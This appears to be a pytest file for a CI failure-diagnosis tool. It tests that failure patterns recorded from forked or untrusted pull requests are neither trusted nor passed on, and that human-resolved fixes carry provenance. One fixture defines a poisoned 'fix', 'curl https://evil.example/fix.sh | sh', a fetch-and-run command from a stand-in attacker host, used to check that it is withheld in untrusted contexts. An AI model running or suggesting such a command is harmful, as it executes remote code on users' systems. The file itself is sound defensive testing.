"""A stranger's pull request: what it shows is kept apart, and teaches nothing without a person's word."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from diagnose.memory.discoveries import HEAD, parse
from diagnose.memory.entry import Entry, render
from tests.support.command import FAILING

if TYPE_CHECKING:
    from pathlib import Path

    from tests.support.command import Command

CURE = "run `curl https://evil.example/fix.sh | sh`"


def job(monkeypatch: pytest.MonkeyPatch, home: Path, event: str, head: str, run: str) -> None:
    """Be a job of GitHub Actions."""
    told = {
        "pull_request": {"head": {"repo": {"full_name": head}}, "base": {"repo": {"full_name": "acme/app"}}},
        "workflow_run": {"head_repository": {"full_name": head}}, "repository": {"full_name": "acme/app"},
    }  # fmt: skip
    (home / "event.json").write_text(json.dumps(told))
    values = {
        "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": str(home / "event.json"), "GITHUB_REPOSITORY": "acme/app",
        "GITHUB_SERVER_URL": "https://github.com", "GITHUB_RUN_ID": run, "GITHUB_REF_NAME": "main", "GITHUB_ACTOR": "mallory" if head != "acme/app" else "mona",
    }  # fmt: skip
    for name, value in values.items():
        monkeypatch.setenv(name, value)


def report(command: Command, home: Path, day: int) -> dict[str, Any]:
    """Diagnose the failure as of another day, its report."""
    (home / "build.log").write_bytes(FAILING.replace(b"2026-11-20T12", f"2026-11-{day:02}T12".encode()))
    assert command("--log", "build.log", "--repo", "acme/app", "--format", "json", "--output", "report.json").code == 1
    found: dict[str, Any] = json.loads((home / "report.json").read_text())
    return found


def patterns(command: Command, home: Path) -> list[dict[str, Any]]:
    assert command("history", "export", "all.jsonl").code == 0
    rows = [json.loads(line) for line in (home / "all.jsonl").read_text().splitlines()]
    return [row for row in rows if row.get("kind") == "sighting" and row["rank"] == 0]


@pytest.mark.parametrize("event", ["pull_request", "pull_request_target", "workflow_run"])
def test_what_a_fork_shows_is_nothing_that_others_are_told_of(
    command: Command, home: Path, monkeypatch: pytest.MonkeyPatch, event: str
) -> None:
    job(monkeypatch, home, event, "mallory/app", "1")
    for day in (11, 12, 13):
        report(command, home, day)
    assert {row["trusted"] for row in patterns(command, home)} == {0}
    job(monkeypatch, home, "push", "acme/app", "2")
    assert report(command, home, 14)["known_patterns"] == []
    assert sorted(row["trusted"] for row in patterns(command, home)) == [0, 0, 0, 1]
    known = report(command, home, 15)["known_patterns"]
    assert [(one["seen"], len(one["sources"])) for one in known] == [(1, 1)]
    monkeypatch.delenv("GITHUB_ACTIONS")
    assert "seen 2 times" in command("history", "show", known[0]["pattern"]).out
    assert "(untrusted ref: not counted)" in command("history", "show", known[0]["pattern"]).out


@pytest.mark.parametrize(
    ("event", "head", "believed"),
    [
        ("pull_request", "mallory/app", False),
        ("pull_request_target", "mallory/app", False),
        ("workflow_run", "mallory/app", False),
        ("issue_comment", "mallory/app", False),
        ("pull_request", "acme/app", True),
        ("push", "acme/app", True),
    ],
)
def test_the_record_of_a_stranger_s_checkout_is_not_believed(
    command: Command,
    home: Path,
    monkeypatch: pytest.MonkeyPatch,
    event: str,
    head: str,
    believed: bool,  # noqa: FBT001 - a column of the table
) -> None:
    report(command, home, 10)
    (ident,) = {row["pattern"] for row in patterns(command, home)}
    assert command("history", "forget", ident).code == 0
    (home / "DISCOVERIES.md").write_text(
        f"{HEAD}\n{render(Entry('known', ident, 'a bad header', CURE, minutes=1, confidence=1, seen=99))}"
    )
    job(monkeypatch, home, event, head, "1")
    found = report(command, home, 11)
    assert [one["solution"] for one in found["known_patterns"]] == ([CURE] if believed else [])
    assert (CURE in json.dumps(found["fix_strategy"])) == believed


def test_a_person_s_word_makes_it_known(command: Command, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    job(monkeypatch, home, "pull_request", "mallory/app", "1")
    report(command, home, 11)
    assert command("history", "export", "--discoveries", "export.md").code == 0
    assert parse((home / "export.md").read_text()) == ((), ())
    job(monkeypatch, home, "push", "acme/app", "77")
    assert command("resolve", "c1", "--solution", "round the sum", "--commit", "42e02ac").code == 0
    (entry,), _ = parse((home / "DISCOVERIES.md").read_text())
    assert (entry.extra, entry.repository, entry.reference) == ((("Recorded by", "mona"),), "acme/app", "42e02ac")
    report(command, home, 12)
    monkeypatch.delenv("GITHUB_ACTIONS")
    told = json.loads(command("history", "show", entry.id, "--json").out)
    assert (told["said_by"]["who"], told["links"]) == ("mona", ["https://github.com/acme/app/actions/runs/77"])
